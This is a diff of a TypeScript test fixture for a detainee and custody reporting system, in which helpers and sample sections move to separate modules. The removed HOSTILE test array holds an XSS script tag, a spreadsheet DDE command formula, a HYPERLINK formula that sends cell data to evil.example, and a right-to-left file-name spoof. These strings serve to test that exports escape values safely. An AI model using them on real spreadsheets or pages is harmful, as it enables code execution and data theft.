@@ -1,42 +1,22 @@
-import type {
-  Basis,
-  Figure,
-  ReportContent,
-  ReportName,
-  Section,
-  Value,
-  TableSection,
-} from '../../src/reports/content/content.js';
-
-/** Reports as content, rich in what is hard to write: every kind of value, nothing at all, and names that somebody chose with care. */
-
-export const HOSTILE = [
-  '<script>alert(1)</script>',
-  "=cmd|' /C calc'!A0",
-  '"=HYPERLINK("http://evil.example/?"&A1)"',
-  '+375 29 123;=1+1',
-  '@SUM(A1:A9)\t=2',
-  'Ҵ\u202Egnp.exe\u202C ועד אבג',
-  'Наталлявельмідоўгаепрозвішчабязпрабелаў'.repeat(3),
-  'Дзьмітры «Ў» д’Арк',
-];
-
-const count = (value: number): Value => ({ kind: 'count', value });
-const text = (value: string): Value => ({ kind: 'text', value });
-const day = (value: string): Value => ({ kind: 'day', value });
-const days = (earliest: string | null, latest: string | null): Value => ({ kind: 'days', earliest, latest });
-const month = (value: string): Value => ({ kind: 'month', value });
-const code = (list: string, value: string): Value => ({ kind: 'code', list, value });
-const range = (min: number, max: number | null, unit: 'days' | 'hours' = 'days'): Value => ({
-  kind: 'range',
-  unit,
-  min,
-  max,
-});
-const money = (value: string, currency = 'BYN'): Value => ({ kind: 'money', currency, value });
-const mean = (value: string): Value => ({ kind: 'decimal', unit: 'days', value });
-const WITHHELD: Value = { kind: 'withheld' };
-const ABSENT: Value = { kind: 'absent' };
+import type { Basis, ReportContent, ReportName, Section, Value } from '../../src/reports/content/content.js';
+import {
+  ABSENT,
+  WITHHELD,
+  code,
+  count,
+  day,
+  days,
+  figure,
+  figures,
+  mean,
+  money,
+  month,
+  notes,
+  range,
+  table,
+  text,
+} from './content-values.js';
+import { DETAINEES, PERSON } from './contents-of-persons.js';
 
 const BASIS: Basis = {
   asOf: '2021-04-07',
@@ -44,29 +24,6 @@ const BASIS: Basis = {
   position: '0000000000004711',
   filters: {},
 };
-
-const figure = (
-  id: string,
-  value: Value,
-  n: number | null = 25,
-  caveat: Figure['caveat'] = 'documented',
-): Figure => ({
-  id,
-  version: 1,
-  value,
-  n,
-  caveat,
-});
-
-const figures = (...list: Figure[]): Section => ({ kind: 'figures', id: 'overview', figures: list });
-const notes = (...list: string[]): Section => ({ kind: 'notes', id: 'notes', notes: list });
-
-const table = (id: string, columns: string[], rows: Value[][]): Section => ({
-  kind: 'table',
-  id,
-  columns: columns.map((column) => ({ id: column })),
-  rows,
-});
 
 const MONTHLY: Section[] = [
   figures(
@@ -140,93 +97,6 @@ function heldByDay(): Value[][] {
     count(5 + (i % 4)),
   ]);
 }
-
-const DETAINEES: Section[] = [
-  figures(figure('held', count(8), 8), figure('held_confirmed', count(7), 7)),
-  {
-    ...(table(
-      'detainees',
-      ['name', 'case', 'status', 'since', 'confirmed_until', 'release', 'days_in_custody'],
-      [
-        ...HOSTILE.map((name, i) => [
-          text(name),
-          { kind: 'id' as const, value: `5f8f5106-0a20-58f8-8ca7-c761694c00${10 + i}` },
-          code('status', i % 2 === 0 ? 'in_custody_serving' : 'in_custody_overdue'),
-          i === 3 ? days(null, '2021-03-02') : days('2021-03-01', '2021-03-04'),
-          day('2021-04-01'),
-          i === 4 ? ABSENT : days('2021-04-09', '2021-04-11'),
-          i === 3 ? range(36, null) : range(26 + i, 31 + i),
-        ]),
-        [
-          ABSENT,
-          { kind: 'id', value: 'c2a9' },
-          code('status', 'whereabouts_unknown'),
-          ABSENT,
-          ABSENT,
-          ABSENT,
-          range(0, 0),
-        ],
-      ],
-    ) as TableSection),
-    columns: [
-      { id: 'name' },
-      { id: 'case' },
-      { id: 'status' },
-      { id: 'since' },
-      { id: 'confirmed_until' },
-      { id: 'release' },
-      { id: 'days_in_custody', figure: { id: 'days_in_custody', version: 1 } },
-    ],
-  },
-  notes('names_only_with_consent'),
-];
-
-const PERSON: Section[] = [
-  {
-    kind: 'form',
-    id: 'dossier_identity',
-    answers: [
-      { question: 'family_name', values: [] },
-      { question: 'first_name', values: [] },
-      {
-        question: 'name_as_recorded',
-        values: [text('Дзмітрый Казлоў'), text(HOSTILE[0]!), text(HOSTILE[6]!)],
-      },
-      { question: 'sex', values: [code('sex', 'male')] },
-      { question: 'nationality', values: [] },
-    ],
-  },
-  {
-    kind: 'form',
-    id: 'dossier_arrest',
-    answers: [
-      { question: 'arrest_date', values: [day('2019-12-25'), days('2020-02-01', '2020-02-03')] },
-      { question: 'warrant_shown', values: [code('answer', 'no')] },
-    ],
-  },
-  { kind: 'form', id: 'dossier_submitter', answers: [{ question: 'signature', values: [] }] },
-  table(
-    'custody',
-    ['detention', 'from', 'to', 'days_in_custody'],
-    [
-      [text('1'), day('2019-12-25'), day('2020-01-20'), range(26, 26)],
-      [text('2'), days('2020-02-01', '2020-02-07'), days('2020-02-20', '2020-03-02'), range(13, 30)],
-      [text(HOSTILE[0]!), day('2021-03-01'), ABSENT, range(24, 37)],
-    ],
-  ),
-  {
-    kind: 'plot',
-    id: 'custody_plot',
-    shape: 'timeline',
-    table: 'custody',
-    x: 'detention',
-    y: ['from', 'to'],
-  },
-  figures(
-    figure('days_in_custody', range(63, 93), 1, 'at_least'),
-    figure('days_served', range(26, 26), 1, 'at_least'),
-  ),
-];
 
 const CAMPAIGN: Section[] = [
   table(
@@ -397,6 +267,7 @@ const FILTERS: Partial<Record<ReportName, Basis['filters']>> = {
   person: { caseId: '5f8f5106-0a20-58f8-8ca7-c761694c005b' },
 };
 
+/** A report as content, rich in what is hard to write: every kind of value, nothing at all, and names that somebody chose with care. */
 export const reportContent = (report: ReportName): ReportContent => ({
   report,
   audience: report === 'monthly' ? 'public' : 'internal',
